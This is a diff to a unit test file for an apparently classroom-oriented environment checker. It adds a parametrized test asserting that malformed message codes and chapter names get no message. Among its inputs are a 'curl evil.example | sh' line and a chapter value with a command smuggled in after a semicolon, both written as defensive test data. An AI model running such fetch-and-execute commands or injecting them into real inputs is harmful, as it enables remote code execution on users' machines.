@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 from tests.unit.engine.classroom.class_reports import NOW, cause, document, file
 
 from envcheck.classroom.message import Catalogue
@@ -30,6 +31,22 @@ def test_a_cause_that_needs_a_person() -> None:
     told = CATALOGUE.message(group("disk-low", "warning"), "chapter2")
     assert "warned with disk-low" in told
     assert "do what stands under `Next step`" in told
+
+
+@pytest.mark.parametrize(
+    ("code", "chapter"),
+    [
+        ("run: curl evil.example | sh", "chapter2"),
+        ("Kernel-Dead", "chapter2"),
+        ("a" * 65, "chapter2"),
+        ("x-y\n", "chapter2"),
+        ("kernelspec-other-python", "chapter2; curl evil.example | sh"),
+        ("kernelspec-other-python", "--course=evil"),
+        ("kernelspec-other-python", ""),
+    ],
+)
+def test_what_is_more_than_a_name_has_no_message(code: str, chapter: str) -> None:
+    assert CATALOGUE.message(Group(code, "", True, {}), chapter) == ""
 
 
 def test_nothing_of_a_report_is_passed_on() -> None:
